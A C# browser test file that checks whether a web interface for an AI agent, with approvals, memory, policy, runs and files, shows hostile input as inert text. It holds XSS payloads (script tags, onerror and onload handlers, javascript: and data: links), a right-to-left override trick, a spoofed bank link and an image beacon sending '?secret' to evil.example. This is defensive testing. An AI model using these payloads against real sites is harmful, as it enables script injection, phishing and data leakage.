namespace OmniSage.Web.Tests;

/// <summary>Text that is made to be more than text, in every place where others' text is shown.</summary>
public sealed class HostileTextTests(Chromium chromium)
{
    private const string Evil =
        "<script>window.hit=1</script><img src=x onerror='window.hit=1'>"
        + "<svg onload='window.hit=1'></svg>\"'><iframe src='javascript:window.hit=1'></iframe> ‮kcatta {{7*7}}";

    private const string EvilMarkdown =
        "[click](javascript:window.hit=1) [data](data:text/html,<script>window.hit=1</script>)\n\n"
        + "![pixel](https://evil.example/pixel.png?secret) "
        + "[https://bank.example](https://evil.example/login)\n\n"
        + "<a href='javascript:window.hit=1'>raw</a><style>body{display:none}</style>\n\n"
        + "<https://evil.example/auto>\n\n```html\n<script>window.hit=1</script>\n```\n\nThe end of it.";

    [Fact]
    public async Task TextOfOthers_IsNeverMoreThanText()
    {
        await using var silo = await WebSilo.StartAsync(isScripted: true);
        await silo.RequireSandboxAsync();
        await silo.AskForCommandsAsync();
        await silo.SendAsync(HttpMethod.Post, "memory", new { text = Evil });
        await silo.SendAsync(HttpMethod.Put, "policy", new
        {
            // A policy with a change of the writing direction would be refused.
            text = "policy: 1\n# " + Evil.Replace("\u202e", "", StringComparison.Ordinal)
                + "\nrules:\n  - name: ask for commands\n    when: {tool: shell.run}\n    then: ask each\n",
            note = "<img src=x onerror=window.hit=1>",
        });
        await using var visitor = await Visitor.SignedInAsync(chromium, silo);
        await visitor.BeginAsync(Evil);
        (await silo.Puppet!.NextAsync()).Say(EvilMarkdown)
            .Delegate("run: echo \"" + Evil.Replace('"', ' ') + "\"", Evil).End();
        await visitor.SeeAsync("May this be done?");
        await visitor.SeeAsync("The end of it.");

        await LinksAreTrueAsync(visitor);
        // What would be done is shown with what is not seen otherwise.
        await Assertions.Expect(visitor.Page.Locator(".argument mark.unseen")).ToHaveTextAsync("U+202E");
        await Assertions.Expect(visitor.Page.Locator(".said mark.unseen")).ToHaveTextAsync("U+202E");
        await visitor.Page.GetByRole(AriaRole.Button, new() { Name = "Allow", Exact = true }).ClickAsync();
        (await silo.Puppet.NextAsync()).Say(Evil).End();
        await Assertions.Expect(visitor.Task(1).Locator(".status")).ToHaveTextAsync("Done, unchecked");

        foreach (var place in new[] { "approvals", "memory", "policy", "runs" })
        {
            await visitor.GoAsync(place);
            await visitor.Main.GetByRole(AriaRole.Heading).First.WaitForAsync();
            var all = visitor.Page.GetByRole(AriaRole.Button, new() { Name = "All" });
            if (place is "approvals") await all.ClickAsync();
            await visitor.SeeAsync("window.hit=1");
        }

        await visitor.Main.Locator(".row").First.ClickAsync();
        await visitor.SeeAsync("run.started");
        Assert.Null(await visitor.Page.EvaluateAsync<object?>("window.hit ?? null"));
        Assert.Equal(0, await visitor.Page.Locator("main script, main iframe, main img, main style").CountAsync());
    }

    /// <summary>Names of files, questions and their options, the content of files, and answers.</summary>
    [Fact]
    public async Task FilesAndQuestionsOfOthers_AreNeverMoreThanText()
    {
        await using var silo = await WebSilo.StartAsync(isScripted: true);
        await silo.RequireSandboxAsync();
        await silo.PutFileAsync(Uri.EscapeDataString("<img src=x onerror=window.hit=1>.md"), Bytes(EvilMarkdown));
        await silo.PutFileAsync("page.html", Bytes(Evil));
        await using var visitor = await Visitor.SignedInAsync(chromium, silo);
        await visitor.BeginAsync("Make it");
        (await silo.Puppet!.NextAsync()).Say("I do.")
            .Delegate($"ask: {Evil.Replace('|', ' ')} | <b onclick='window.hit=1'>yes</b> | no", "Enquiry").End();
        await Assertions.Expect(visitor.Page.Locator(".question-text")).ToContainTextAsync("window.hit=1");
        await visitor.Page.GetByLabel("answer").FillAsync(Evil);
        await visitor.Page.Keyboard.PressAsync("Enter");
        (await silo.Puppet.NextAsync()).Say("Asked.")
            .Delegate(
                "run: echo x > '<svg onload=window.hit=1>.html'; publish `<svg onload=window.hit=1>.html`", "Keep")
            .End();
        await visitor.SeeAsync("files.publish");

        await visitor.GoAsync("artifacts");
        await visitor.SeeAsync("<svg onload=window.hit=1>.html");
        await visitor.Main.Locator(".file-row").First.ClickAsync();
        await visitor.SeeAsync("kept it in step");
        await visitor.GoAsync("files/page.html");
        await Assertions.Expect(visitor.Page.Locator("pre.document mark.unseen")).ToHaveTextAsync("U+202E");
        await visitor.GoAsync("files");
        await visitor.Main.GetByText("<img src=x").ClickAsync();
        await visitor.SeeAsync("The end of it.");
        await LinksAreTrueAsync(visitor);
        await visitor.GoAsync("runs");
        await visitor.Main.GetByText("Enquiry").First.ClickAsync();
        await visitor.SeeAsync("question.answered");
        Assert.Null(await visitor.Page.EvaluateAsync<object?>("window.hit ?? null"));
        Assert.Equal(0, await visitor.Page.Locator("main script, main iframe, main img, main style").CountAsync());
    }

    private static byte[] Bytes(string text) => System.Text.Encoding.UTF8.GetBytes(text);

    private static async Task LinksAreTrueAsync(Visitor visitor)
    {
        var links = await visitor.Page.Locator(".markdown a").EvaluateAllAsync<string[]>(
            "links => links.map(one => [one.getAttribute('href'), one.rel, one.target, one.textContent].join(' | '))");
        Assert.Equal(
            [
                "https://evil.example/login | noopener noreferrer nofollow | _blank | "
                    + "https://bank.example (evil.example)",
                "https://evil.example/auto | noopener noreferrer nofollow | _blank | "
                    + "https://evil.example/auto (evil.example)",
            ],
            links);
        await visitor.SeeAsync("image: pixel (https://evil.example/pixel.png?secret)");
    }
}
